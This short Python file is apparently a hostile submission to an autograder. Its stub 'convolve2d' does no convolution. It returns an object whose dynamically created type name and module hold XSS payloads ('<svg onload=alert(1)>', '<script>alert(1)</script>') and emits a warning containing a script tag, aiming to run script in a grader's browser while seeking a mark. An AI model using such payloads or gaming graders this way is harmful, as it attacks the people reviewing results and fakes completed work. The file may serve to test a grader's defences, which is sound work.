"""Attack: a result whose type is named like a tag, and warnings that are.
Wants: a script in the TA's browser.
Honest mark: 8
"""

# %% convolve2d
import warnings

Evil = type("<svg onload=alert(1)>", (), {"__module__": "<script>alert(1)</script>"})


def convolve2d(image, kernel, stride=1, padding=0):
    warnings.warn("<script>alert(1)</script>")
    return Evil()
